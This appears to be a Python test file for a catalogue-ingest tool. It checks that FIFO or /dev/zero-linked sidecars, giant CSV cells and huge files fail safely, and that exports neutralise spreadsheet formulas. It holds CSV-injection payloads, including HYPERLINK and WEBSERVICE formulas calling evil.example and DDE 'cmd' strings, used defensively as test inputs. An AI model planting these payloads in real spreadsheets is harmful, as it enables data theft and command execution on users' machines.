"""Hostile catalogues: sidecars, giant cells and huge files fail their own file, never the folder;
the catalogue export never writes a cell a spreadsheet would run (issue #28, findings 7, 8 and 10).
"""

from __future__ import annotations

import builtins
import csv
import io
import json
import os
import threading
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from core.errors import CorruptSource, identify
from core.ingest.readers.csv_reader import FORMULA_PREFIXES, neutralise, restore
from core.ingest.sidecar import read_sidecar
from core.ingest.walk import NOT_REGULAR
from core.models.fake_encoder import HashingEncoder
from core.service import Ovillo
from tests.conftest import drain

CATALOGUE = "id,title,description\nA-1,Denario,Denario de plata de Augusto\nA-2,Jarra,Jarra vidriada\n"


def outcomes(summary: Any) -> tuple[list[str], dict[str, str]]:
    """(names indexed, name → reason of each failure)."""
    return (sorted(Path(o.path).name for o in summary.ok),
            {Path(o.path).name: o.reason for o in summary.failed})


def ingest_within(app: Ovillo, root: Path, unblock: Path, seconds: float = 30) -> Any:
    """Ingest ``root`` in a thread; fail when it is still running after ``seconds`` (unblocking the FIFO first)."""
    result: dict[str, Any] = {}
    t = threading.Thread(target=lambda: result.setdefault("s", drain(app.library.ingest([root]))[1]), daemon=True)
    t.start()
    t.join(seconds)
    if t.is_alive():
        for _ in range(50):  # a reader blocked on the FIFO sees EOF and moves on (it may come back to it)
            try:
                os.close(os.open(unblock, os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass  # no reader waiting at this moment
            t.join(0.2)
        pytest.fail(f"ingest blocked on the FIFO {unblock.name}")
    return result["s"]


# -- finding 7: sidecars get the checks files get -------------------------------------------------
@pytest.mark.timeout(120)
def test_a_fifo_sidecar_fails_its_file_without_blocking_the_ingest(fake_app: Ovillo, tmp_path: Path) -> None:
    root = tmp_path / "box"
    root.mkdir()
    (root / "cat.csv").write_text(CATALOGUE, encoding="utf-8")
    os.mkfifo(root / "cat.csv.mapping.json")
    (root / "ok.txt").write_text("Una carta sobre el molino.", encoding="utf-8")
    s = ingest_within(fake_app, root, root / "cat.csv.mapping.json")
    ok, failed = outcomes(s)
    assert ok == ["ok.txt"]
    assert failed["cat.csv"] == f"cannot read cat.csv.mapping.json: {NOT_REGULAR}"
    assert identify(failed["cat.csv"]) == ("ingest.sidecar_unreadable",
                                           {"name": "cat.csv.mapping.json", "detail": NOT_REGULAR})
    # the options sidecar of a PDF or a picture is read by the same door
    (tmp_path / "scan.png").write_bytes(b"")
    side = tmp_path / "scan.png.options.json"
    os.mkfifo(side)
    refused: list[str] = []

    def probe() -> None:
        try:
            read_sidecar(tmp_path / "scan.png")
        except CorruptSource as exc:
            refused.append(str(exc))

    t = threading.Thread(target=probe, daemon=True)
    t.start()
    t.join(10)
    if t.is_alive():
        os.close(os.open(side, os.O_WRONLY | os.O_NONBLOCK))  # let the blocked reader end before failing
        t.join(10)
        pytest.fail("reading an options sidecar blocked on a FIFO")
    assert refused == [f"cannot read scan.png.options.json: {NOT_REGULAR}"]


def test_a_sidecar_linked_to_dev_zero_is_refused_unopened(fake_app: Ovillo, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []

    def guard(real: Any) -> Any:
        def spy(file: Any, *args: Any, **kw: Any) -> Any:
            if not isinstance(file, int) and os.path.realpath(file) == "/dev/zero":
                opened.append(str(file))  # the old read grew to gigabytes: refuse here, fail below
                raise AssertionError("a sidecar linked to /dev/zero was opened")
            return real(file, *args, **kw)
        return spy

    monkeypatch.setattr(os, "open", guard(os.open))
    monkeypatch.setattr(io, "open", guard(io.open))
    monkeypatch.setattr(builtins, "open", guard(builtins.open))
    root = tmp_path / "box"
    root.mkdir()
    (root / "cat.csv").write_text(CATALOGUE, encoding="utf-8")
    os.symlink("/dev/zero", root / "cat.csv.mapping.json")
    (root / "photo.jpg.options.json").symlink_to("/dev/zero")
    (root / "ok.txt").write_text("Una carta sobre el molino.", encoding="utf-8")
    _, s = drain(fake_app.library.ingest([root]))
    ok, failed = outcomes(s)
    assert opened == []
    assert ok == ["ok.txt"]
    assert failed["cat.csv"] == "cannot read cat.csv.mapping.json: a link to a file outside its folder: not followed"
    with pytest.raises(CorruptSource, match="photo.jpg.options.json: a link to a file outside its folder"):
        read_sidecar(root / "photo.jpg")
    # inside its folder a link is fine; an oversized sidecar is refused before it is read
    (root / "cat.csv.mapping.json").unlink()
    (root / "shared.json").write_text(json.dumps({"title": "title", "text": "description"}), encoding="utf-8")
    (root / "cat.csv.mapping.json").symlink_to(root / "shared.json")
    _, s = drain(fake_app.library.ingest([root]))
    assert "cat.csv" in outcomes(s)[0]
    with (root / "photo.png.options.json").open("wb") as fh:
        fh.truncate(64 * 1024 * 1024)
    with pytest.raises(CorruptSource, match="photo.png.options.json: larger than 1 MB"):
        read_sidecar(root / "photo.png")


# -- finding 8: giant cells and huge files ---------------------------------------------------------
def test_a_giant_cell_fails_its_csv_and_the_folder_still_indexes(fake_app: Ovillo, tmp_path: Path) -> None:
    root = tmp_path / "fondo"
    root.mkdir()
    (root / "good.csv").write_text(CATALOGUE, encoding="utf-8")
    (root / "bad.csv").write_text(f"id,title,description\nB-1,Breve,Texto\nB-2,Enorme,{'x' * 200_000}\n",
                                  encoding="utf-8")
    (root / "carta.txt").write_text("Una carta sobre el molino.", encoding="utf-8")
    _, s = drain(fake_app.library.ingest([root]))
    ok, failed = outcomes(s)
    assert ok == ["carta.txt", "good.csv"]
    assert list(failed) == ["bad.csv"]
    message, hint = failed["bad.csv"].split(" — ")
    assert identify(message) == ("ingest.csv_cell", {"line": "3", "limit": "131072"})
    assert identify(hint) == ("hint.csv_cell", {})
    titles = {r[0] for r in fake_app.store.cursor().execute("SELECT title FROM records").fetchall()}
    assert {"Denario", "Jarra"} <= titles and not {"Breve", "Enorme"} & titles


def test_a_huge_csv_is_refused_by_its_size_before_it_is_read(fake_app: Ovillo, tmp_path: Path) -> None:
    root = tmp_path / "fondo"
    root.mkdir()
    big = root / "huge.csv"
    with big.open("wb") as fh:  # a real header, then 300 MB of holes: nothing on disk, everything if read
        fh.write(CATALOGUE.encode())
        fh.truncate(300 * 1024 * 1024)
    (root / "carta.txt").write_text("Una carta sobre el molino.", encoding="utf-8")
    # every read reserves its cap up front (untouched, so not resident, but traced): a small cap keeps
    # the trace about this file; the scan's own cap (the default 200 MB) is what the 300 MB file meets
    fake_app.settings.max_file_mb = 8
    tracemalloc.start()
    try:
        _, s = drain(fake_app.library.ingest([root]))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    ok, failed = outcomes(s)
    assert ok == ["carta.txt"]
    assert identify(failed["huge.csv"].split(" — ")[0]) == ("ingest.too_large", {"size": "315", "limit": "8"})
    assert peak < 64 * 1024 * 1024, f"{peak / 1e6:.0f} MB allocated: the file was read"


# -- finding 10: the catalogue export and formulas -------------------------------------------------
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Ver ficha")',
    "description": "+cmd|' /C calc'!A0",
    "typology": "@SUM(1+1)",
    "material": '=WEBSERVICE("http://evil.example/x")',
    "period": "-300",
    "denomination": "-2+3+cmd|' /C calc'!A0",
}


def test_neutralise_and_restore_round_trip_every_value() -> None:
    values = ["", "plata", "=1+1", "+34 600", "-", "-300", "+300", "-3,5", "-1+1", "@x", "\tx", "\rx", "'",
              "'=x", "''=x", "'-300", "'plata", "=", "1e5", "-1e5"]
    for v in values:
        out = neutralise(v)
        assert restore(out) == v, v
        if out[:1] in FORMULA_PREFIXES:  # only a plain number may start like a formula
            assert out.lstrip("+-").replace(",", "").replace(".", "").isdigit(), (v, out)
    assert neutralise("-300") == "-300" and neutralise("-1+1") == "'-1+1" and neutralise("@x") == "'@x"


def test_the_catalogue_export_writes_no_formula_and_imports_back(fake_app: Ovillo, tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    with (src / "coins.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["id", *HOSTILE], lineterminator="\n")
        w.writeheader()
        w.writerow({"id": "X-1", **HOSTILE})
        w.writerow({"id": "X-2", "title": "Denario", "description": "Plata", "typology": "denario",
                    "material": "plata", "period": "-44", "denomination": "denario"})
    _, s = drain(fake_app.library.ingest([src]))
    assert not s.failed, s.failed
    keys = fake_app.store.cursor().execute(
        "SELECT section_tipo, section_id FROM records ORDER BY title").fetchall()
    csv_path = drain(fake_app.catalogue.export(keys, tmp_path / "out"))[1]
    with csv_path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for column, cell in row.items():
            assert cell[:1] not in FORMULA_PREFIXES or cell in ("-300", "-44"), (column, cell)
    hostile = next(r for r in rows if r["id"] == "X-1")
    assert hostile["title"] == "'" + HOSTILE["title"] and hostile["typology"] == "'@SUM(1+1)"
    assert hostile["period"] == "-300"  # a plain number stays a number in a spreadsheet

    def stored(app: Ovillo) -> dict[str, tuple[str, dict[str, Any]]]:
        out = {}
        for title, data in app.store.cursor().execute("SELECT title, data FROM records").fetchall():
            d = json.loads(data)
            out[d["fields"]["id"]] = (title, d["roles"])
        return out

    with Ovillo(tmp_path / "fresh", models_dir=tmp_path / "models", encoder=HashingEncoder()) as fresh:
        _, s = drain(fresh.library.ingest([csv_path.parent]))
        assert not s.failed, s.failed
        assert stored(fresh) == stored(fake_app)
        assert stored(fresh)["X-1"][0] == HOSTILE["title"]
        assert stored(fresh)["X-1"][1]["period_years"] == [-300, -300]
